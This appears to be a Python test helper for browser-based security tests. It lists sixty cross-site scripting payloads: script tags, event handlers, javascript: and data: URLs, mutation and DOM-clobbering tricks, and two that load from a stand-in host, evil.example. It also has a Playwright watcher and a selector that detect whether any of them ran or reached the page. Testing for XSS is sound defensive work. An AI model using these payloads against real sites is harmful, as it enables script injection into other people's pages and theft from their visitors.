"""Sixty texts that would run as code wherever a page took them for markup, and the watch that sees it.

Each sets a marker of its own for each field it stands in, so that whatever ran can be named and a
field cannot pass for another. None needs the network.
"""

import re
from collections.abc import Iterable

from playwright.sync_api import ConsoleMessage, Dialog, Locator, Page, Request

RUN = "RUN"
UNSEEN = re.compile(r"[\s\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_WRITTEN = [
    # scripts
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script/x>RUN</script >",
    "'><script src='data:text/javascript,RUN'></script>",
    "<script type=module>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "</script><script>RUN//",
    # images, media and their events
    "<img src=x onerror='RUN'>",
    "<img src=x:x onerror=RUN//",
    "<IMG/SRC=x/ONERROR=RUN>",
    "<image src=x onerror=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<input type=image src=x onerror=RUN>",
    "<picture><img srcset=x onerror=RUN></picture>",
    # svg and MathML
    '"><svg onload=RUN>',
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:RUN'><text y=20>点</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<math><mtext></mtext><script>RUN</script></math>",
    "<math href='javascript:RUN'><mi>x</mi></math>",
    # other handlers
    "<details open ontoggle=RUN>x</details>",
    "<body onload=RUN>",
    "<marquee onstart=RUN>走</marquee>",
    "<b onmouseover=RUN>停</b>",
    "<div contenteditable autofocus onfocus=RUN tabindex=1>写</div>",
    "</textarea><input autofocus onfocus=RUN>",
    "</title></style></textarea><img src=x onerror=RUN>",
    # out of an attribute
    "' onmouseover='RUN",
    '" autofocus onfocus="RUN" x="',
    "` onfocus=RUN autofocus `",
    # addresses
    "javascript:RUN",
    "JaVaScRiPt:RUN//https://example.com",
    "java\tscript:RUN",
    "<a href='javascript:RUN'>点我</a>",
    "<a href='java&#x09;script:RUN'>点我</a>",
    "data:text/html,<script>RUN</script>",
    "<form action='javascript:RUN'><button>提交</button></form>",
    "<button formaction='javascript:RUN' form=x>确定</button>",
    # frames and things to embed
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<iframe src='javascript:RUN'></iframe>",
    "<object data='javascript:RUN'></object>",
    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=RUN>'>",
    # styles and the document's head
    "<style>*{display:none}@import '//evil.example/?RUN';</style>",
    "<p style='background:url(javascript:RUN);position:fixed;inset:0'>盖</p>",
    "<link rel=stylesheet href=//evil.example/x.css onload=RUN onerror=RUN>",
    "<base href='javascript:RUN//'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    # templates of frameworks and of our own pages
    "{{constructor.constructor('RUN')()}}",
    "${RUN}",
    "<template><script>RUN</script></template><${'script'}>RUN</${'script'}>",
    '{"__html":"<img src=x onerror=RUN>","__proto__":{"type":"script"}}',
    # what only becomes markup later: entities, comments, mutation, markdown
    "&lt;img src=x onerror=RUN&gt;&#60;script&#62;RUN&#60;/script&#62;",
    "<!--><img src=x onerror=RUN>-->",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "[点我](javascript:RUN) ![图](x'onerror='RUN)",
    # names that would hide the page's own, and signs that turn the words around
    "<a id=location name=forms href='javascript:RUN'></a><img name=cookie src=x onerror=RUN>",
    "\u202e<b onclick=RUN>\u2066翻转\u2069</b>\u202c\uff1cscript\uff1eRUN\uff1c/script\uff1e",
]
NUMBERS = range(len(_WRITTEN))
IMAGE = _WRITTEN.index("<img src=x onerror='RUN'>")

# Nothing of ours draws these; a page's own script tag is the one that brings it.
_FORBIDDEN = (
    "script:not([src$='/widget.js']), iframe, frame, img, image, picture, video, audio, source,"
    "object, embed, base, link, meta, style, template, math, animate, foreignObject, marquee, b,"
    "[srcdoc], [action], [formaction], [contenteditable], [id=location], [name=forms], [name=cookie],"
    "[*|href^='java' i], [*|href^='data' i], [src^='java' i]"
)
_SEE_HARM = """forbidden => {
    const roots = [document.body, ...[...document.querySelectorAll("*")].map((e) => e.shadowRoot).filter(Boolean)];
    const nodes = roots.flatMap((root) => [...root.querySelectorAll("*")]);
    return [
        ...Object.keys(window).filter((name) => /^ran\\d+_/.test(name)).map((name) => `${name} ran`),
        ...nodes
            .filter((e) => e.matches(forbidden) || e.getAttributeNames().some((name) => /^(style|on)/.test(name)))
            .map((e) => `node: ${e.outerHTML.slice(0, 100)}`),
    ];
}"""


def payload(number: int, field: str) -> str:
    """The text of this number (0 to 59) as it stands in a field such as ``customer.name``."""
    return _WRITTEN[number].replace(RUN, f"top.{marker(number, field)}=1")


def marker(number: int, field: str) -> str:
    """What it sets in the window when it runs."""
    return f"ran{number}_{field.replace('.', '_')}"


def payloads(field: str) -> list[str]:
    """All sixty for one field."""
    return [payload(number, field) for number in NUMBERS]


class Watch:
    """Looks at one page from the moment it is made; ``hub_url`` is the only address it may ask."""

    def __init__(self, page: Page, hub_url: str) -> None:
        self._page = page
        self._hub_url = hub_url
        self._seen: list[str] = []
        page.on("dialog", self._on_dialog)
        page.on("console", self._on_console)
        page.on("request", self._on_request)

    def harm(self) -> list[str]:
        """Everything that should not be: what ran, what was built, what was asked or refused."""
        return [*self._seen, *self._page.evaluate(_SEE_HARM, _FORBIDDEN)]

    def _on_dialog(self, dialog: Dialog) -> None:
        self._seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _on_console(self, line: ConsoleMessage) -> None:
        if "Content Security Policy" in line.text:
            self._seen.append(f"console: {line.text}")

    def _on_request(self, request: Request) -> None:
        if not request.url.startswith((self._hub_url, "data:")):
            self._seen.append(f"request: {request.url}")


def plant(place: Locator, texts: Iterable[str]) -> None:
    """What a careless page would do: take the texts for markup."""
    place.evaluate(
        """(place, texts) => texts.forEach((text) => {
            const spot = document.createElement("div");
            place.append(spot);
            spot.innerHTML = text;
        })""",
        list(texts),
    )


def not_shown(texts: Iterable[str], shown: str) -> list[str]:
    """The texts that are not there to be read, letter by letter; spaces and signs of direction do not count."""
    read = _plain(shown)
    return [text for text in texts if _plain(text) not in read]


def _plain(text: str) -> str:
    return UNSEEN.sub("", text)
